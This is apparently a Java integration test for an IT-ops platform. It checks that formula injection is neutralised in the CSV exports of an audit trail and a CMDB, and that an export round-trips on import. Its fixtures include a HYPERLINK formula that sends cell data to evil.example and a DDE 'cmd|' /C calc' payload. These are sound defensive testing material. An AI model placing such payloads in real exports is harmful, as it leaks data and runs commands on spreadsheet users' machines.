package org.itops.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import org.itops.SuiteClient;
import org.itops.SuiteTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Formulas smuggled into a CSV export over real HTTP: whatever a user wrote into a record, no cell of the audit trail
 * or the CMDB export starts (or has a line that starts) with what a spreadsheet runs, and the CMDB's export still
 * imports back unchanged.
 */
@SuiteTest
class FormulaInjectionTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
  private static final String MULTI_LINE = "Front end\n=1+1\r\n+cmd|' /C calc'!A0\r-2\n@SUM(A1)\n\tTAB\n'quoted";

  @LocalServerPort int port;
  @Autowired JdbcTemplate jdbc;
  @Autowired Clock clock;
  SuiteClient client;
  String prefix;

  @BeforeEach
  void connect() {
    client = new SuiteClient(port);
    prefix = "f" + UUID.randomUUID().toString().substring(0, 8) + "-";
  }

  @Test
  void aFormulaInTheAuditTrailIsNeutralised() throws Exception {
    String number = securityIncident();
    addEvidence(number, HYPERLINK);
    addEvidence(number, "@SUM(1+1)*cmd|' /C calc'!A0");

    String csv = client.get("secops", "/api/records/" + number + "/audit.csv").body();

    assertThat(details(csv)).contains("'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0");
    assertNoCellRunsAFormula(csv);
  }

  @Test
  void aFormulaInAMultiLineCellIsNeutralised() throws Exception {
    String number = securityIncident();
    addEvidence(number, MULTI_LINE);
    assertThat(importCsv(items(prefix + "web", MULTI_LINE)).statusCode()).isEqualTo(200);

    String trail = client.get("secops", "/api/records/" + number + "/audit.csv").body();
    String export = client.get("requester", "/api/cis/export").body();

    assertThat(details(trail)).contains("Front end\n'=1+1\r\n'+cmd|' /C calc'!A0\r'-2\n'@SUM(A1)\n'\tTAB\n''quoted");
    assertNoCellRunsAFormula(trail);
    assertNoCellRunsAFormula(export);
  }

  @Test
  void aFormulaInACmdbCellIsNeutralisedAndTheExportImportsBackUnchanged() throws Exception {
    String formulaName = "=" + prefix + "cmd|' /C calc'!A0";
    assertThat(importCsv(items(formulaName, HYPERLINK, "+" + prefix, "-2", prefix + "plain", MULTI_LINE))
        .statusCode()).isEqualTo(200);
    Map<String, String> stored = descriptions();

    String export = client.get("requester", "/api/cis/export").body();
    HttpResponse<String> again = importCsv(export);

    assertNoCellRunsAFormula(export);
    assertThat(rows(export)).anySatisfy(row -> assertThat(row).startsWith("'" + formulaName).contains("'" + HYPERLINK));
    assertThat(again.statusCode()).as(again.body()).isEqualTo(200);
    assertThat(JSON.readTree(again.body()).path("created").asInt()).isZero();
    assertThat(descriptions()).isEqualTo(stored).containsEntry(formulaName, HYPERLINK).containsEntry("+" + prefix, "-2")
        .containsEntry(prefix + "plain", MULTI_LINE);
  }

  @Test
  void cellsStartingWithTabOrCarriageReturnAreNeutralisedAndRestored() {
    // the API strips the ends of what it stores, so these come through the shared writer only
    List<String> hostile = List.of("\tcmd", "\r=1+1", "'=already marked", "''", "a\r\n\r\n=b", "-", "");

    String csv = Csv.write(List.of("value"), hostile.stream().map(List::of).toList());

    assertNoCellRunsAFormula(csv);
    assertThat(csv).startsWith("value\r\n'\tcmd\r\n\"'\r'=1+1\"\r\n''=already marked\r\n");
    assertThat(hostile.stream().map(value -> Csv.restore(Csv.neutralise(value)))).containsExactlyElementsOf(hostile);
  }

  /** Every line start of every cell is text for a spreadsheet: it starts with ' or with nothing it would run. */
  private static void assertNoCellRunsAFormula(String csv) {
    for (List<String> row : rows(csv)) {
      for (String cell : row) {
        for (int i = 0; i < cell.length(); i++) {
          boolean lineStart = i == 0 || cell.charAt(i - 1) == '\n' || cell.charAt(i - 1) == '\r';
          if (lineStart && cell.charAt(i) != '\n') {
            assertThat("=+-@\t\r").as("line start %d of cell %s", i, cell).doesNotContain(cell.substring(i, i + 1));
          }
        }
      }
    }
  }

  private static List<List<String>> rows(String csv) {
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<List<String>> reader = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY)
        .readerForListOf(String.class).readValues(csv)) {
      reader.forEachRemaining(rows::add);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
    return rows;
  }

  /** The detail column of the audit trail. */
  private static List<String> details(String csv) {
    return rows(csv).stream().skip(1).map(row -> row.get(4)).toList();
  }

  private String securityIncident() throws Exception {
    HttpResponse<String> reported = client.postJson("secops", "/api/security-incidents", """
        {"summary":"Phishing %s","description":"A link in a mail","severity":"medium","detectedAt":"%s"}"""
        .formatted(prefix, clock.instant().minus(Duration.ofHours(1))));
    assertThat(reported.statusCode()).as(reported.body()).isEqualTo(201);
    return JSON.readTree(reported.body()).path("number").asText();
  }

  private void addEvidence(String number, String description) throws Exception {
    HttpResponse<String> added = client.postJson("secops", "/api/security-incidents/" + number + "/evidence",
        JSON.writeValueAsString(Map.of("description", description)));
    assertThat(added.statusCode()).as(added.body()).isEqualTo(204);
  }

  /** A CSV file of servers, given as name, description, name, description, ... */
  private static String items(String... namesAndDescriptions) {
    StringBuilder csv = new StringBuilder("name,type,environment,owner_group,criticality,description\n");
    for (int i = 0; i < namesAndDescriptions.length; i += 2) {
      csv.append(quote(namesAndDescriptions[i])).append(",server,production,ops-engineers,low,")
          .append(quote(namesAndDescriptions[i + 1])).append('\n');
    }
    return csv.toString();
  }

  private static String quote(String cell) {
    return "\"" + cell.replace("\"", "\"\"") + "\"";
  }

  private HttpResponse<String> importCsv(String csv) {
    return client.send(client.request("engineer", "/api/cis/import").header("Content-Type", "text/csv")
        .POST(BodyPublishers.ofString(csv)));
  }

  private Map<String, String> descriptions() {
    Map<String, String> descriptions = new TreeMap<>();
    jdbc.query("select name, description from configuration_item where name like ?",
        rs -> {
          descriptions.put(rs.getString(1), rs.getString(2));
        }, "%" + prefix + "%");
    return descriptions;
  }
}
